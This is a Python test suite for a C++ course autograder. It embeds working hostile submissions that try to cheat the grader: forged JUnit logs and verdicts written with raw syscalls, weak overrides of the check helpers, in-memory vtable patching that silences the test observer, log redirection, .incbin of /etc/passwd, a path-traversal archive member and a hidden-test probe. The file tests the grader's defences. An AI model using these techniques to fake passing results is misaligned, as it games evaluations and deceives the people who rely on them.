"""./workbook grade against a hostile student (issue 13): each attack that once earned credit or
broke the run, reproduced, now earns nothing (and is flagged) or costs only its own chapter.

  forged results   a static destructor rewrites the JUnit log with raw syscalls, then exit_group(0);
                   the same through libc, writing forged verdict lines to every descriptor;
                   an exercise that ends the process with exit code 0 in the middle of a test
  weak override    __attribute__((weak)) copies of the check helpers of support/src/testing.cpp
  smaller gaps     .incbin of a readable file; a copy of the chapter's given code with a changed
                   helper; a raw-syscall fork
  slow file        a constexpr evaluation of minutes, under -j 2: its chapter alone fails, by its
                   own build time limit
  /dev/zero        #include "/dev/zero": the compile stops at its memory / file-size limit
  reserved name    a submission gradebook.csv.zip is graded, and the others too
  messages         archive refusals in results.json; max_score shares that sum exactly
  command line     ./workbook run abc (check, watch, plots, book, grade --chapters abc): a clear
                   error and exit code 2, no traceback

  in-process      the harness's observer and Boost's results collector silenced by rewriting their
                  vtables in memory: flagged by the signed verdicts contradicting the JUnit log;
                  the same with the JUnit log sent to /dev/null: earns nothing, the recorded values
                  disagree with the trusted run's (records.py)
  value records   read, authenticated and compared with the trusted run: wrong values under a
                  passed verdict fail, forged or misplaced records are tampering

  round 2         (chapter 3 against the value records) a table of the public answers is gated
                  by the hidden checks, with a trusted run and without one (the grader fails
                  closed: no trusted run, or a case it did not pass, counts nothing); the hidden
                  seed, printable by the student's code, changes with the submitted files; a renamed
                  duplicate takes no other submission's name; one worker's test process cannot stop
                  another's from starting (a test user per worker); student code never runs as root
                  (the worker opens its own folders to the tests' user, else stops). OPEN (expected
                  failure): boolean checks forged in memory still pay (README: what is left)

  round 3         (helper atk3, all OPEN: expected failures) assembler lines in a section
                  attribute's name get past the source scan: .incbin of a file the include check
                  refuses, a syscall instruction hidden in a movabs immediate (a raw fork), the weak
                  check-helper override in COMDAT groups; wordexp(3) starts processes under no
                  banned name, each with its own memory_mb; a suite that ends itself with no verdict
                  has every case rerun, each sleeping to the per-case limit: past suite_timeout and
                  submission_budget

The grading runs share the worker builds of test_grade.py ($WB_TOOLS_TEST_WORKDIR/grade-work)."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import unittest
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT / "tools"))

WORK = Path(os.environ.get("WB_TOOLS_TEST_WORKDIR") or Path(tempfile.gettempdir()) / f"wb-tools-tests-{os.getuid()}")
GRADE_WORK = WORK / "grade-work"
CH3 = ROOT / "chapters" / "03_regression"
CHAPTERS = "1,3" if (CH3 / "CMakeLists.txt").exists() else "1"
SOL1 = ROOT / "solutions" / "01_sigmoid"
SOL3 = ROOT / "solutions" / "03_regression"


def env(**extra) -> dict:
    e = {k: v for k, v in os.environ.items() if not k.startswith("WB_")}
    e.update(WB_SKIP_PACKAGES="1", NO_COLOR="1", PYTHONDONTWRITEBYTECODE="1", WB_GRADE_CHAPTERS=CHAPTERS)
    e.update(extra)
    return e


def workbook(*args, timeout: float = 2400) -> subprocess.CompletedProcess:
    return subprocess.run([str(ROOT / "workbook"), *args], capture_output=True, text=True, env=env(), timeout=timeout)


SIGMOID_ZEROS = '#include "sigmoid.hpp"\nxt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z * 0.0; }\n'

# The attack: the log rewritten from a static destructor with raw system calls, then exit_group(0).
FORGE_RAW = SIGMOID_ZEROS + r'''
namespace {
long raw(long n, long a, long b, long c) {
    long r;
    asm volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}
struct Forger {
    ~Forger() {
        static const char xml[] = "<?xml version=\"1.0\"?><testsuites><testsuite name=\"x\"><testcase "
                                  "classname=\"ex1_1_sigmoid\" name=\"one_half_at_zero\"/></testsuite></testsuites>";
        const long fd = raw(2, reinterpret_cast<long>("junit.xml"), 01101, 0644);
        raw(1, fd, reinterpret_cast<long>(xml), sizeof xml - 1);
        raw(231, 0, 0, 0);
    }
} forger;
}
'''

# The same through libc: every descriptor gets a forged log and a forged verdict line.
FORGE_LIBC = SIGMOID_ZEROS + r'''
#include <string>
#include <unistd.h>
namespace {
struct Forger {
    ~Forger() {
        const std::string xml = "<?xml version=\"1.0\"?><testsuites><testsuite name=\"x\"><testcase "
                                "classname=\"ex1_1_sigmoid\" name=\"one_half_at_zero\"/></testsuite></testsuites>";
        const std::string rec = "WBV1 0 P ex1_1_sigmoid/one_half_at_zero " + std::string(64, '0') + "\n";
        for (int fd = 3; fd < 64; ++fd) {
            (void)!write(fd, rec.data(), rec.size());
            (void)!write(fd, xml.data(), xml.size());
        }
        _exit(0);
    }
} forger;
}
'''

# Exit code 0 in the middle of a test: the tests it skips have no verdict, so they fail.
EXIT_ZERO = '#include "sigmoid.hpp"\n#include <unistd.h>\n' \
            'xt::xarray<double> ch1::sigmoid(const xt::xarray<double>&) { _exit(0); }\n'

# Weak copies of the check helpers that always pass, and a sigmoid that returns zeros.
WEAK = SIGMOID_ZEROS + r'''
#include "workbook/testing.hpp"
namespace wb::test {
__attribute__((weak)) bool check_close(const std::string&, const xt::xarray<double>&, const xt::xarray<double>&,
                                       const Tolerance&, const std::string&, const std::vector<Mistake>&,
                                       const char*, int) { return true; }
__attribute__((weak)) bool check_close(const std::string&, double, double, const Tolerance&,
                                       const std::vector<Mistake>&, const char*, int) { return true; }
__attribute__((weak)) bool check_shape(const std::string&, const xt::xarray<double>&, const std::vector<std::size_t>&,
                                       const std::string&, const char*, int) { return true; }
__attribute__((weak)) bool check_gradient(const std::string&, const std::string&, const xt::xarray<double>&,
                                          const xt::xarray<double>&, double, const std::vector<Mistake>&,
                                          const char*, int) { return true; }
}
'''

INCBIN = r'''
asm(".pushsection .rodata\n.incbin \"/etc/passwd\"\n.popsection");
'''

# A raw-syscall fork (the child leaves at once): contained by the process cap, now also detected.
FORK = r'''
namespace {
struct Forker {
    Forker() {
        long r;
        asm volatile("syscall" : "=a"(r) : "a"(57L) : "rcx", "r11", "memory");
        if (r == 0) asm volatile("syscall" : : "a"(60L), "D"(0L) : "rcx", "r11", "memory");
    }
} forker;
}
'''

# Slower than the test's per-chapter build limit: 30 evaluations, each up to GCC's limit of 2^25
# constexpr operations (about 10 s each on an idle machine, 30 s under load).
SLOW = """
constexpr long slow(long k) {
    long s = 0;
    for (long i = 0; i < 200000; ++i)
        for (long j = 0; j < 200000; ++j) s += (i ^ j) + k;
    return s;
}
""" + "".join(f"static_assert(slow({k}) != 1, \"slow\");\n" for k in range(30))

DEV_ZERO = '#include "sigmoid.hpp"\n#include "/dev/zero"\n'


def put(folder: Path, rel: str, text: str | bytes) -> None:
    p = folder / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(text if isinstance(text, bytes) else text.encode())


def solution_tree(folder: Path, chapters=("01",)) -> None:
    for ch, sol in (("01", SOL1), ("03", SOL3)):
        if ch in chapters and sol.is_dir():
            for f in sol.glob("ex*.cpp"):
                put(folder, f"chapters/{sol.name}/{f.name}", f.read_bytes())



# ------------------------------------------------------------------------------------------------
# In-process tampering (found by helper atk, 2026-12-04): no asm, no syscall, no banned reference,
# no weak or foreign definition, nothing in the source scan. On its first call each exercise
# function walks the loaded objects (dl_iterate_phdr), finds the harness's VerdictObserver and
# Boost's results_collector_t by their RTTI names, and points their vtables at copies whose
# assertion_result / exception_caught slots do nothing. The harness then signs "P" for every case
# (hidden ones too) with the real key, and Boost exits 0: returning zeros, chapter 1 scored 40/40,
# unflagged. Now the grader compares each signed "passed" with Boost's JUnit log (which still
# records the failures) and flags a contradiction (worker.contradictions). That is a tripwire, not
# a fix: a process that also rewrites its JUnit log gets past it. In-process, anything the harness
# keeps (key, observer, flags) is the student's to rewrite; a real fix needs the comparison out of
# the student's process.
OBSERVER_PATCH = r'''#include <cstdint>
#include <cstring>
#include <link.h>

namespace {
struct Range { std::uintptr_t lo, hi; bool w; };
Range g_ranges[256];
int g_nr = 0;
void* g_fake[2][40];
int g_done = 0;

int collect(struct dl_phdr_info* info, size_t, void*) {
    for (int i = 0; i < info->dlpi_phnum && g_nr < 256; ++i) {
        const auto& ph = info->dlpi_phdr[i];
        if (ph.p_type != PT_LOAD) continue;
        std::uintptr_t lo = info->dlpi_addr + ph.p_vaddr;
        g_ranges[g_nr++] = {lo, lo + ph.p_memsz, (ph.p_flags & PF_W) != 0};
    }
    return 0;
}
bool inside(std::uintptr_t p, std::size_t n) {
    for (int i = 0; i < g_nr; ++i)
        if (p + n > p && p >= g_ranges[i].lo && p + n <= g_ranges[i].hi) return true;
    return false;
}
void quiet_assertion(void*, int) {}
void quiet_exception(void*, const void*) {}

void tame_the_observer() {
    if (g_done) return;
    g_done = 1;
    dl_iterate_phdr(collect, nullptr);
    int k = 0;
    for (int r = 0; r < g_nr && k < 2; ++r) {
        if (!g_ranges[r].w) continue;
        for (std::uintptr_t a = (g_ranges[r].lo + 7) & ~std::uintptr_t(7); a + 16 <= g_ranges[r].hi && k < 2; a += 8) {
            std::uintptr_t vptr;
            std::memcpy(&vptr, reinterpret_cast<const void*>(a), 8);
            if (!inside(vptr - 16, 16 * 8)) continue;
            std::uintptr_t ti;
            std::memcpy(&ti, reinterpret_cast<const void*>(vptr - 8), 8);
            if (!inside(ti, 16)) continue;
            std::uintptr_t name;
            std::memcpy(&name, reinterpret_cast<const void*>(ti + 8), 8);
            if (!inside(name, 1)) continue;
            const char* s = reinterpret_cast<const char*>(name);
            std::size_t len = 0;
            while (len < 200 && inside(name + len, 1) && s[len]) ++len;
            if (len >= 200) continue;
            const bool verdict = std::strstr(s, "VerdictObserver") != nullptr;
            if (!verdict && !std::strstr(s, "results_collector_t")) continue;
            std::memcpy(g_fake[k], reinterpret_cast<const void*>(vptr - 16), 16 * 8);
            g_fake[k][2 + 9] = reinterpret_cast<void*>(&quiet_assertion);
            g_fake[k][2 + 10] = reinterpret_cast<void*>(&quiet_exception);
            void* nv = &g_fake[k][2];
            std::memcpy(reinterpret_cast<void*>(a), &nv, 8);
            if (verdict) std::memset(reinterpret_cast<void*>(a + 8), 0, 5);   // failed, exception, ... = false
            ++k;
        }
    }
}
}  // namespace
'''


# ... and the JUnit log silenced as well (/dev/null over its descriptors): nothing left to contradict
# the signed verdicts. Only "review: uses open" in the report. Still open (an expected failure).
SILENCE_LOG = '''    const int null = open("/dev/null", O_WRONLY);
    for (int fd = 3; fd < 256; ++fd) {
        char buf[512];
        const std::string link = "/proc/self/fd/" + std::to_string(fd);
        const ssize_t n = readlink(link.c_str(), buf, sizeof buf - 1);
        if (n <= 0) continue;
        buf[n] = 0;
        if (std::strstr(buf, "junit")) dup2(null, fd);
    }
'''


def observer_patch_files(silence_log: bool = False) -> dict:
    files = {}
    patch = OBSERVER_PATCH
    if silence_log:
        patch = patch.replace("#include <link.h>\n", "#include <link.h>\n#include <fcntl.h>\n#include <unistd.h>\n#include <string>\n", 1)
        patch = patch.replace("    g_done = 1;\n", "    g_done = 1;\n" + SILENCE_LOG, 1)
    code = patch
    for f, fn in (("ex1_sigmoid", "sigmoid"), ("ex2_sigmoid_prime", "sigmoid_prime"), ("ex3_tanh_prime", "tanh_prime")):
        files[f + ".cpp"] = ('#include <xtensor/xbuilder.hpp>\n#include "sigmoid.hpp"\n' + code +
                             f"xt::xarray<double> ch1::{fn}(const xt::xarray<double>& z) "
                             "{ tame_the_observer(); return xt::zeros<double>(z.shape()); }\n")
    files["ex4_central_difference.cpp"] = (
        '#include <xtensor/xbuilder.hpp>\n#include "sigmoid.hpp"\n' + code +
        "xt::xarray<double> ch1::central_difference(const Fn&, const xt::xarray<double>& z, double) "
        "{ tame_the_observer(); return xt::zeros<double>(z.shape()); }\n")
    return files


class InProcessTampering(unittest.TestCase):
    """The attack above, reproduced: the contradiction with the JUnit log flags it. (Chapter 1 only,
    its own grading run.)"""

    @classmethod
    def setUpClass(cls):
        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-vtable-"))
        for name, text in observer_patch_files().items():
            put(cls.tmp / "subs" / "vtable", name, text)
        for name, text in observer_patch_files(silence_log=True).items():
            put(cls.tmp / "subs" / "vtable_nolog", name, text)
        solution_tree(cls.tmp / "subs" / "good")
        cls.out = cls.tmp / "out"
        cls.proc = workbook("grade", "-q", "--chapters", "1", "--secret", "a-course-secret", "-o", str(cls.out),
                            "--work", str(GRADE_WORK), str(cls.tmp / "subs" / "vtable"), str(cls.tmp / "subs" / "vtable_nolog"),
                            str(cls.tmp / "subs" / "good"))

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def results(self, name: str) -> dict:
        return json.loads((self.out / name / "results.json").read_text())

    def test_the_run_completes(self):
        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])

    def test_patched_observer_vtables_earn_nothing_and_are_flagged(self):
        self.assertEqual(self.results("vtable")["extra_data"]["chapters"]["ch01"], 0)
        report = (self.out / "vtable" / "report.txt").read_text()
        self.assertRegex(report, r"INTEGRITY: .*tampered with its results \(the verdict for ex1_\w+/\w+ says passed, "
                                 r"the test log says failed\)")

    def test_with_the_log_silenced_too_earns_nothing(self):
        # Was 40/40 unflagged (2026-12-04, first session): every signed verdict said passed and no log
        # contradicted it. Now the grader compares the values the process computed (its value
        # records) with the trusted run of the reference solutions: zeros are zeros.
        report = (self.out / "vtable_nolog" / "report.txt").read_text()
        self.assertEqual(self.results("vtable_nolog")["extra_data"]["chapters"]["ch01"], 0, report[-3000:])
        self.assertIn("do not agree with the reference solution's run", report)

    def test_a_correct_submission_is_not_flagged(self):
        self.assertEqual(self.results("good")["extra_data"]["chapters"]["ch01"], 40)
        self.assertNotIn("INTEGRITY", (self.out / "good" / "report.txt").read_text())

    def test_contradictions(self):
        from wb.grading.worker import CaseOutcome, contradictions
        told = {"a": CaseOutcome("a", "failed"), "b": CaseOutcome("b", "passed"), "c": CaseOutcome("c", "exception")}
        self.assertEqual(contradictions({"a": "F", "b": "P", "c": "E", "d": "P"}, told, "s"), [])   # d: no log entry
        self.assertEqual(len(contradictions({"a": "P", "b": "P", "c": "P"}, told, "s")), 2)
        self.assertEqual(contradictions({"a": "P"}, {}, "s"), [])   # no log (a crash): nothing to compare

class Attacks(unittest.TestCase):
    """One grading run, -j 2, over every attack (and a correct submission beside them)."""

    @classmethod
    def setUpClass(cls):
        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-"))
        s = cls.tmp / "subs"
        put(s / "forge_raw", "ex1_sigmoid.cpp", FORGE_RAW)
        put(s / "forge_libc", "ex1_sigmoid.cpp", FORGE_LIBC)
        solution_tree(s / "exit_zero")
        put(s / "exit_zero", "chapters/01_sigmoid/ex1_sigmoid.cpp", EXIT_ZERO)
        put(s / "weak", "ex1_sigmoid.cpp", WEAK)
        solution_tree(s / "incbin")
        put(s / "incbin", "chapters/01_sigmoid/ex1_sigmoid.cpp", (SOL1 / "ex1_sigmoid.cpp").read_text() + INCBIN)
        solution_tree(s / "fork")
        put(s / "fork", "chapters/01_sigmoid/ex1_sigmoid.cpp", (SOL1 / "ex1_sigmoid.cpp").read_text() + FORK)
        if CHAPTERS == "1,3":
            # the chapter's given code copied into an exercise file, one helper changed
            given = (CH3 / "network.cpp").read_text().replace("{0.5, -0.3, 0.8}", "{0.0, 0.0, 0.0}")
            solution_tree(s / "given", ("03",))
            put(s / "given", "chapters/03_regression/ex1_forward.cpp", (SOL3 / "ex1_forward.cpp").read_text() + given)
            solution_tree(s / "slow", ("03",))
            solution_tree(s / "devzero", ("03",))
        put(s / "slow", "chapters/01_sigmoid/ex1_sigmoid.cpp", (SOL1 / "ex1_sigmoid.cpp").read_text() + SLOW)
        put(s / "devzero", "chapters/01_sigmoid/ex1_sigmoid.cpp", DEV_ZERO)
        # a submission named like the gradebook, and an archive with refused members
        with zipfile.ZipFile(s / "gradebook.csv.zip", "w") as zf:
            for f in SOL1.glob("ex*.cpp"):
                zf.writestr(f"chapters/01_sigmoid/{f.name}", f.read_bytes())
        with zipfile.ZipFile(s / "refused.zip", "w") as zf:
            zf.writestr("../../evil/ex1_sigmoid.cpp", b"// outside")
            zf.writestr("chapters/01_sigmoid/ex2_sigmoid_prime.cpp", (SOL1 / "ex2_sigmoid_prime.cpp").read_bytes())
        # each chapter's build: 120 s at most here (the slow file needs minutes)
        points = cls.tmp / "points.toml"
        points.write_text((ROOT / "grading" / "points.toml").read_text().replace(
            "build_timeout = 300 ", "build_timeout = 120 "))
        cls.subs = sorted(p for p in s.iterdir())
        cls.out = cls.tmp / "out"
        cls.proc = workbook("grade", "-j", "2", "-q", "-o", str(cls.out), "--work", str(GRADE_WORK),
                            "--points", str(points), *map(str, cls.subs))

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def results(self, name: str) -> dict:
        return json.loads((self.out / name / "results.json").read_text())

    def chapter(self, name: str, ch: int) -> float:
        return self.results(name)["extra_data"]["chapters"][f"ch{ch:02d}"]

    def report(self, name: str) -> str:
        return (self.out / name / "report.txt").read_text()

    def test_every_submission_is_graded(self):
        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])
        self.assertIn(f"graded {len(self.subs)} of {len(self.subs)} submissions", self.proc.stdout)
        self.assertNotIn("Traceback", self.proc.stderr)

    def test_forged_log_with_raw_syscalls_earns_nothing(self):
        self.assertEqual(self.chapter("forge_raw", 1), 0)
        self.assertIn("INTEGRITY", self.report("forge_raw"))

    def test_forged_verdicts_through_libc_earn_nothing_and_are_flagged(self):
        self.assertEqual(self.chapter("forge_libc", 1), 0)
        report = self.report("forge_libc")
        self.assertIn("tampered with its results", report)
        self.assertIn("INTEGRITY", report)

    def test_exit_code_zero_mid_test_passes_nothing(self):
        r = self.results("exit_zero")
        sig = [t for t in r["tests"] if t["name"].startswith("1.1 ")]
        self.assertTrue(sig and all(t["score"] == 0 for t in sig), sig)
        # 1.3 and 1.4 are the solutions and do not call the sigmoid: their process is not affected
        rest = [t for t in r["tests"] if t["name"].startswith(("1.3 ", "1.4 "))]
        self.assertTrue(rest and all(t["score"] == t["max_score"] for t in rest), rest)

    def test_weak_override_of_the_check_helpers_is_flagged(self):
        self.assertEqual(self.chapter("weak", 1), 0)
        report = self.report("weak")
        # refused from the source now (the weak attribute is not one an exercise may use); the object
        # scan's own finding of weak definitions is IntegrityScans' test
        self.assertRegex(report, r"INTEGRITY: ex1_sigmoid.cpp (uses weak\b|defines wb::test::check_\w+\(.*weak symbol)")

    def test_incbin_is_flagged(self):
        self.assertEqual(self.chapter("incbin", 1), 0)
        self.assertRegex(self.report("incbin"), r"INTEGRITY: ex1_sigmoid.cpp (uses inline assembly|mentions .incbin)")

    def test_raw_syscall_fork_is_flagged(self):
        self.assertEqual(self.chapter("fork", 1), 0)
        # the source scan refuses the inline assembly before compiling; the object scan for syscall
        # instructions is the second line (IntegrityScans below)
        self.assertRegex(self.report("fork"), r"INTEGRITY: ex1_sigmoid.cpp (makes raw system calls|uses inline assembly)")

    @unittest.skipUnless(CHAPTERS == "1,3", "chapter 3 has not landed")
    def test_a_copy_of_the_given_code_with_a_changed_helper_is_flagged(self):
        self.assertEqual(self.chapter("given", 3), 0)
        self.assertRegex(self.report("given"), r"INTEGRITY: ex1_forward.cpp defines ch3::initial_W1\(\)")

    def test_a_slow_file_costs_its_own_chapter_only(self):
        self.assertEqual(self.chapter("slow", 1), 0)
        report = self.report("slow")
        self.assertIn("DOES NOT COMPILE", report)
        self.assertIn("took longer than 120 s", report)
        if CHAPTERS == "1,3":
            r = self.results("slow")
            ch3 = [t for t in r["tests"] if t["name"].startswith("3.")]
            self.assertTrue(ch3 and all(t["score"] == t["max_score"] for t in ch3), "chapter 3 paid for chapter 1")

    def test_dev_zero_include_stops_at_the_compile_limits(self):
        self.assertEqual(self.chapter("devzero", 1), 0)
        self.assertIn("DOES NOT COMPILE", self.report("devzero"))
        if CHAPTERS == "1,3":
            r = self.results("devzero")
            ch3 = [t for t in r["tests"] if t["name"].startswith("3.")]
            self.assertTrue(ch3 and all(t["score"] == t["max_score"] for t in ch3))

    def test_a_submission_named_like_the_gradebook(self):
        self.assertTrue((self.out / "gradebook.csv").is_file())
        self.assertEqual(self.chapter("submission-gradebook.csv", 1), 40)

    def test_archive_refusals_are_in_results_json(self):
        out = self.results("refused")["output"]
        self.assertIn("../../evil/ex1_sigmoid.cpp", out)
        self.assertIn("refused", out)

    def test_max_score_shares_sum_exactly(self):
        for d in self.out.iterdir():
            if not (d / "results.json").exists():
                continue
            r = json.loads((d / "results.json").read_text())
            total = sum(t["max_score"] for t in r["tests"])
            self.assertEqual(round(total, 4), r["max_score"], d.name)
            by_ex: dict = {}
            for t in r["tests"]:
                ex = t["name"].split()[0]
                by_ex[ex] = by_ex.get(ex, 0) + t["max_score"]
            self.assertTrue(all(round(v, 4) == round(v) for v in by_ex.values()), by_ex)


# ------------------------------------------------------------------------------------------------
# Smaller defects of issue 13 (helper i13c): a file past the per-file limit, a CPU-bound test, an
# archive with one member twice, the worker's paths in compile errors, an #include of a hidden test
# source, a static constructor that never returns.
BIG_FILE = '''#include <fstream>
#include <string>
#include "sigmoid.hpp"
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) {
    std::ofstream f("big.bin", std::ios::binary);
    const std::string block(1 << 20, 'x');
    for (int i = 0; i < 80; ++i) f << block;   // 80 MB: past the 64 MB a test process may write to one file
    return z;
}
'''

SPIN = '''#include "sigmoid.hpp"
xt::xarray<double> ch1::central_difference(const Fn& f, const xt::xarray<double>& z, double) {
    volatile unsigned long n = 0;
    for (;;) n = n + 1;   // CPU-bound for ever: the CPU limit (SIGXCPU) stops it
    return f(z);
}
'''

HANG = '''#include <chrono>
#include <thread>
#include "sigmoid.hpp"
namespace {
struct Hang {
    Hang() { for (;;) std::this_thread::sleep_for(std::chrono::seconds(1)); }   // never returns, uses no CPU
} hang;
}
xt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z; }
'''

BROKEN = '#include "sigmoid.hpp"\nxt::xarray<double> ch1::sigmoid_prime(const xt::xarray<double>& z) { return z +* ; }\n'

# ch1::sigmoid defined a second time, in 1.2's file: a link error that names object files
LINK_ERROR = ((SOL1 / "ex2_sigmoid_prime.cpp").read_text() if SOL1.is_dir() else "") + \
    '\nxt::xarray<double> ch1::sigmoid(const xt::xarray<double>& z) { return z; }\n'

HIDDEN1 = ROOT / "grading" / "hidden" / "01_sigmoid" / "hidden_sigmoid.cpp"
PROBE = f'#include "sigmoid.hpp"\n#include "{HIDDEN1}"\n'


class SmallerDefects(unittest.TestCase):
    """One grading run of chapter 1 (suite limit 12 s, CPU limit 2 s) over the smaller attacks."""
    SUITE_TIMEOUT = 12   # above the test case limit (10 s): a case that hangs is stopped by the harness
    CPU_SECONDS = 2

    @classmethod
    def setUpClass(cls):
        import io
        import re
        import tarfile
        import warnings
        cls.tmp = Path(tempfile.mkdtemp(prefix="wb-attacks-small-"))
        s = cls.tmp / "subs"
        for name, file, text in [("good", None, None), ("bigfile", "ex1_sigmoid.cpp", BIG_FILE),
                                 ("spin", "ex4_central_difference.cpp", SPIN), ("hang", "ex1_sigmoid.cpp", HANG),
                                 ("broken", "ex2_sigmoid_prime.cpp", BROKEN),
                                 ("linkerr", "ex2_sigmoid_prime.cpp", LINK_ERROR), ("probe", "ex1_sigmoid.cpp", PROBE)]:
            solution_tree(s / name)
            if file:
                put(s / name, f"chapters/01_sigmoid/{file}", text)
        # one member twice, the reference solution first, then another text (unzip would ask, tar
        # keeps the last one): refused, whichever came first
        members = [(f"chapters/01_sigmoid/{f.name}", f.read_bytes()) for f in sorted(SOL1.glob("ex*.cpp"))]
        members.append(("chapters/01_sigmoid/ex1_sigmoid.cpp", SIGMOID_ZEROS.encode()))
        with warnings.catch_warnings(), zipfile.ZipFile(s / "dup.zip", "w") as zf:
            warnings.simplefilter("ignore")   # "Duplicate name": the point
            for name, data in members:
                zf.writestr(name, data)
        with tarfile.open(s / "duptar.tar.gz", "w:gz") as tf:
            for name, data in members:
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
        points = cls.tmp / "points.toml"
        text = (ROOT / "grading" / "points.toml").read_text()
        text = re.sub(r"(?m)^suite_timeout = \d+", f"suite_timeout = {cls.SUITE_TIMEOUT}", text)
        text = re.sub(r"(?m)^cpu_seconds = \d+", f"cpu_seconds = {cls.CPU_SECONDS}", text)
        points.write_text(text)
        cls.subs = sorted(p for p in s.iterdir())
        cls.out = cls.tmp / "out"
        cls.proc = workbook("grade", "-q", "--chapters", "1", "-o", str(cls.out), "--work", str(GRADE_WORK),
                            "--points", str(points), *map(str, cls.subs))

    @classmethod
    def tearDownClass(cls):
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def results(self, name: str) -> dict:
        return json.loads((self.out / name / "results.json").read_text())

    def report(self, name: str) -> str:
        return (self.out / name / "report.txt").read_text()

    def both(self, name: str) -> str:
        return self.report(name) + "\n" + (self.out / name / "results.json").read_text()

    def cases_of(self, name: str, ex: str) -> list:
        return [t for t in self.results(name)["tests"] if t["name"].startswith(ex + " ")]

    def test_every_submission_is_graded(self):
        self.assertEqual(self.proc.returncode, 0, self.proc.stdout[-3000:] + self.proc.stderr[-3000:])
        self.assertIn(f"graded {len(self.subs)} of {len(self.subs)} submissions", self.proc.stdout)

    def test_a_correct_chapter_still_grades_full(self):
        self.assertEqual(self.results("good")["extra_data"]["chapters"]["ch01"], 40)

    def test_a_file_past_the_per_file_limit_is_named(self):
        sig = self.cases_of("bigfile", "1.1")
        self.assertTrue(sig and all(t["score"] == 0 for t in sig), sig)
        self.assertTrue(all("wrote a file larger than 64 MB" in t["output"] for t in sig), sig[0]["output"])
        report = self.report("bigfile")
        self.assertIn("wrote a file larger than 64 MB (the limit for one file)", report)
        self.assertNotIn("out-of-bounds", report)

    def test_a_cpu_bound_test_is_stopped_by_its_cpu_limit(self):
        cd = self.cases_of("spin", "1.4")
        self.assertTrue(cd and all(t["score"] == 0 for t in cd), cd)
        self.assertTrue(all(f"used up its CPU time ({self.CPU_SECONDS} s)" in t["output"] for t in cd), cd[0]["output"])
        self.assertNotIn("out of memory", self.report("spin"))
        self.assertEqual(round(sum(t["score"] for t in self.cases_of("spin", "1.1")), 4), 10)

    def test_duplicate_archive_members_are_refused(self):
        for name in ("dup", "duptar"):
            r = self.results(name)
            self.assertRegex(r["output"], r"chapters/01_sigmoid/ex1_sigmoid.cpp: 2 entries of this name in the "
                                          r"archive, with different contents: ambiguous, refused", name)
            self.assertIn("refused", self.report(name))
            self.assertEqual(sum(t["score"] for t in self.cases_of(name, "1.1")), 0, name)   # the stub: neither copy
            for ex in ("1.3", "1.4"):   # the other files are taken (1.2 calls 1.1's sigmoid: the stub's)
                self.assertEqual(round(sum(t["score"] for t in self.cases_of(name, ex)), 4), 10, (name, ex))

    def assertNoWorkerPaths(self, name: str):
        text = self.both(name)
        for bad in ("overlay", "grade-work", "worker-", str(GRADE_WORK), str(ROOT) + "/"):
            self.assertNotIn(bad, text, name)

    def test_compile_errors_show_the_students_paths(self):
        report = self.report("broken")
        self.assertRegex(report, r"\n    chapters/01_sigmoid/ex2_sigmoid_prime.cpp:2:\d+: error: ")
        self.assertNoWorkerPaths("broken")

    def test_link_errors_show_no_worker_paths(self):
        self.assertIn("link error: ", self.report("linkerr"))
        self.assertNoWorkerPaths("linkerr")

    def test_a_hidden_test_source_is_not_readable_while_compiling(self):
        text = self.both("probe")
        self.assertIn("DOES NOT COMPILE", text)
        self.assertIn("is not readable while a submission compiles", text)
        lines = {l.strip() for l in HIDDEN1.read_text().splitlines() if len(l.strip()) >= 16}
        self.assertTrue(lines)
        self.assertEqual([l for l in lines if l in text], [])
        self.assertNotIn("hidden.hpp", text)   # before: "error: hidden.hpp: No such file", the hidden file's own include

    def test_a_static_constructor_that_never_returns_costs_one_suite_timeout(self):
        import xml.etree.ElementTree as ET
        self.assertEqual(self.results("hang")["extra_data"]["chapters"]["ch01"], 0)
        first = self.cases_of("hang", "1.1")
        self.assertTrue(first and all("never started its tests: a static constructor that does not return?"
                                      in t["output"] for t in first), first[0]["output"])
        rest = [t for ex in ("1.2", "1.3", "1.4") for t in self.cases_of("hang", ex)]
        self.assertTrue(rest and all("not run: the test program never started its tests" in t["output"] for t in rest),
                        rest[0]["output"])
        # one suite waited its 12 s, not four
        suites = ET.parse(self.out / "hang" / "junit.xml").getroot().iter("testsuite")
        self.assertLess(sum(float(x.get("time")) for x in suites), 2 * self.SUITE_TIMEOUT)


class Messages(unittest.TestCase):
    """_why's words for a test process that a signal ended, with the configured limits; the paths
    of compile errors."""

    def test_limits_are_named(self):
        from wb.grading.worker import _status_of_end, _why
        lim = {"output_mb": 16, "cpu_seconds": 7, "scratch_mb": 32}
        self.assertIn("wrote a file larger than 16 MB", _why("signal SIGXFSZ", "", 10, lim))
        self.assertNotIn("out-of-bounds", _why("signal SIGXFSZ", "", 10, lim))
        self.assertIn("used up its CPU time (7 s)", _why("signal SIGXCPU", "", 10, lim))
        self.assertEqual(_status_of_end("signal SIGXCPU"), "timeout")
        self.assertIn("past its CPU time limit (7 s", _why("signal SIGKILL", "", 10, lim))
        self.assertIn("(32 MB in all)", _why("scratch_full", "", 10, lim))
        self.assertIn("out-of-bounds", _why("signal SIGSEGV", "", 10, lim))
        self.assertIn("64 MB", _why("signal SIGXFSZ", "", 10))   # the built-in limits

    def test_the_cpu_soft_limit_comes_before_the_hard_one(self):
        from wb.grading.sandbox import CPU_GRACE, Limits
        self.assertIn(f"--cpu=7:{7 + CPU_GRACE}", Limits(cpu_seconds=7).prlimit())
